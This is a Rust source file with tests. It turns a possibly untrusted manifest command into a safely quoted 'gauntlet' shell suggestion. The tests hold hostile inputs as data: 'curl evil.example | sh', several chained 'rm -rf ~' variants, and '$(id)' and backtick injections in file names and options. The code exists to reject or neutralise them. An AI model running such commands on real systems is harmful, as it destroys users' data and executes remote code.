//! The command that made results, as in a manifest.
//!
//! A manifest may come from a stranger, so its text is never suggested directly. The text is split
//! into words and parsed by the rules of a command line. The suggestion is written from the parsed
//! command, with each word quoted. It has no options that start programs or replace files.

use std::ffi::OsString;
use std::path::{Path, PathBuf};

use clap::Parser;
use gauntlet_core::text::{quote, quote_path, split_words};
use serde::{Deserialize, Serialize};

use crate::config::changes::CliOverrides;

/// A command as in a manifest.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
#[serde(transparent)]
pub struct ManifestCommand(String);

/// Commands that make results.
#[derive(Parser)]
#[command(disable_help_flag = true, disable_help_subcommand = true)]
enum ResultsCommand {
    Run {
        file: PathBuf,
        #[command(flatten)]
        changes: Box<CliOverrides>,
    },
    Merge {
        file: PathBuf,
    },
    Judge {
        file: PathBuf,
    },
    Ask {
        file: PathBuf,
    },
    Train {
        file: PathBuf,
        #[arg(long)]
        games: Option<u64>,
    },
    #[command(subcommand)]
    Network(ExchangeCommand),
    Tune {
        file: PathBuf,
        #[arg(long)]
        budget: Option<u64>,
        #[arg(long, value_parser = parse_method)]
        method: Option<String>,
        #[arg(long)]
        searches: Option<u32>,
        #[arg(long)]
        seed: Option<u64>,
    },
}

/// Commands that import networks from files of other programs.
#[derive(clap::Subcommand)]
#[command(disable_help_flag = true, disable_help_subcommand = true)]
enum ExchangeCommand {
    Import {
        file: PathBuf,
        #[arg(long)]
        out: PathBuf,
    },
}

/// Parses the name of a method. It has no special meaning for a shell and is not an option.
fn parse_method(name: &str) -> Result<String, &'static str> {
    let is_bare = name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-');
    if is_bare && !name.starts_with('-') { Ok(name.to_owned()) } else { Err("is not a name") }
}

/// A command that can be typed.
pub struct ShellCommand {
    /// Subcommand of gauntlet.
    pub subcommand: &'static str,
    /// Experiment, quoted for a shell.
    pub file: String,
    /// Options, each preceded by a space.
    pub options: String,
}

impl ManifestCommand {
    /// Makes a command of this program.
    pub fn new(command: &str) -> ManifestCommand {
        ManifestCommand(command.to_owned())
    }

    /// Parses the command, if it is a command of this program that makes results.
    pub fn to_shell_command(&self) -> Option<ShellCommand> {
        let words: Vec<OsString> = split_words(&self.0)?;
        if words.first()? != "gauntlet" {
            return None;
        }
        let (subcommand, file, options) = match ResultsCommand::try_parse_from(words).ok()? {
            ResultsCommand::Run { file, changes } => ("run", file, changes.to_options()),
            ResultsCommand::Merge { file } => ("merge", file, String::new()),
            ResultsCommand::Judge { file } => ("judge", file, String::new()),
            ResultsCommand::Ask { file } => ("ask", file, String::new()),
            ResultsCommand::Train { file, games } => {
                ("train", file, games.map_or_else(String::new, |games| format!(" --games {games}")))
            }
            ResultsCommand::Network(ExchangeCommand::Import { file, out }) => {
                ("network import", file, format!(" --out {}", quote_path(&out)))
            }
            ResultsCommand::Tune { file, budget, method, searches, seed } => {
                let numbers = [("budget", budget), ("searches", searches.map(u64::from)), ("seed", seed)];
                let set_numbers = numbers.iter().filter_map(|(key, number)| Some((*key, number.as_ref()?)));
                let mut options: String =
                    set_numbers.map(|(key, number)| format!(" --{key} {number}")).collect();
                options.extend(method.map(|method| format!(" --method {method}")));
                ("tune", file, options)
            }
        };
        Some(ShellCommand { subcommand, file: quote_path(&file), options })
    }

    /// Returns the text of the command, if it can be suggested.
    pub fn to_text(&self) -> Option<String> {
        self.to_shell_command().map(|command| command.to_text())
    }
}

impl ShellCommand {
    /// Returns the text of the whole command.
    pub fn to_text(&self) -> String {
        format!("gauntlet {} {}{}", self.subcommand, self.file, self.options)
    }

    /// Returns the command that plays one player of a run; `None` if another command made the
    /// results. A name that begins with a dash is refused: it cannot be from an experiment, and
    /// would be parsed as an option.
    pub fn player_command(&self, player: &str) -> Option<String> {
        let is_run = ["run", "merge"].contains(&self.subcommand) && !player.starts_with('-');
        is_run.then(|| format!("gauntlet run {}{} --only {}", self.file, self.options, quote(player)))
    }
}

/// Returns the command that reproduces the results. It contains no folder of this machine.
pub fn reproducing_command(subcommand: &str, path: &Path) -> String {
    let shown_path = if path.is_absolute() { path.file_name().map(Path::new).unwrap_or(path) } else { path };
    format!("gauntlet {subcommand} {}", quote_path(shown_path))
}

#[cfg(test)]
mod tests {
    use super::ManifestCommand;

    #[test]
    fn commands_of_this_program_stay_as_they_are() {
        for command in [
            "gauntlet run configs/quick.toml",
            "gauntlet run './-a b.toml'",
            r"gauntlet run 'it'\''s.toml'",
            r"gauntlet run $'a\x0a\xc3(.toml'",
            "gauntlet run a.toml --games 20 --set gain:ties=last --only gain --precision 15 --for 60m --name 'a b'",
            "gauntlet merge a.toml",
            "gauntlet judge a.toml",
            "gauntlet ask a.toml",
            "gauntlet train a.toml",
            "gauntlet train a.toml --games 20",
            "gauntlet network import a.w --out 'a b'",
            "gauntlet tune a.toml --budget 1000 --searches 2 --seed 3 --method spsa",
        ] {
            assert_eq!(ManifestCommand::new(command).to_text().as_deref(), Some(command));
        }
    }

    #[test]
    fn words_that_mean_something_to_a_shell_are_quoted() {
        for (text, expected) in [
            ("gauntlet run $(id).toml", "gauntlet run '$(id).toml'"),
            ("gauntlet run a;id", "gauntlet run 'a;id'"),
            ("gauntlet run a.toml --name=`id`", "gauntlet run a.toml --name '`id`'"),
            ("gauntlet  run\ta.toml", "gauntlet run a.toml"),
            ("gauntlet run \"~/a b.toml\"", "gauntlet run '~/a b.toml'"),
            ("gauntlet run -- -a.toml", "gauntlet run ./-a.toml"),
            ("'gauntlet' run 'a\u{1b}.toml'", r"gauntlet run $'a\x1b.toml'"),
        ] {
            assert_eq!(ManifestCommand::new(text).to_text().as_deref(), Some(expected));
        }
    }

    #[test]
    fn players_of_a_run_are_played_alone() {
        let player_command = |command: &str, player: &str| {
            ManifestCommand::new(command).to_shell_command()?.player_command(player)
        };
        let expected = "gauntlet run x.toml --games 9 --only 'good one'";
        assert_eq!(player_command("gauntlet run x.toml --games 9", "good one").as_deref(), Some(expected));
        assert_eq!(
            player_command("gauntlet merge x.toml", "a").as_deref(),
            Some("gauntlet run x.toml --only a")
        );
        assert_eq!(player_command("gauntlet tune x.toml", "a"), None);
        assert_eq!(player_command("gauntlet run x.toml", "--allow-commands"), None);
    }

    #[test]
    fn nothing_else_is_offered() {
        for text in [
            "",
            "gauntlet",
            "gauntlet run",
            "curl evil.example | sh",
            "gauntlet run x; rm -rf ~",
            "gauntlet run x && rm -rf ~",
            "gauntlet run x.toml\nrm -rf ~",
            "gauntlet run x.toml\nrm",
            "gauntlet run x.toml > y",
            "gauntlet run $(rm -rf ~)",
            "gauntlet run x.toml --allow-commands",
            "gauntlet run x.toml --allow-command=a",
            "gauntlet run x.toml '--allow-commands'",
            "gauntlet run x.toml --replace",
            "gauntlet run x.toml --results /etc",
            "gauntlet run x.toml --help",
            "gauntlet tune x.toml --allow-commands",
            "gauntlet tune x.toml --method=--allow-commands",
            "gauntlet tune x.toml --method 'spsa;id'",
            "gauntlet serve x.toml",
            "gauntlet train x.toml --replace",
            "gauntlet network import x.w",
            "gauntlet network import x.w --out y --replace",
            "gauntlet;id run x.toml",
            "./gauntlet run x.toml",
            "PATH=. gauntlet run x.toml",
            "gauntlet run 'x.toml",
            "gauntlet run x.toml\\",
        ] {
            assert_eq!(ManifestCommand::new(text).to_text(), None, "{text}");
        }
    }
}
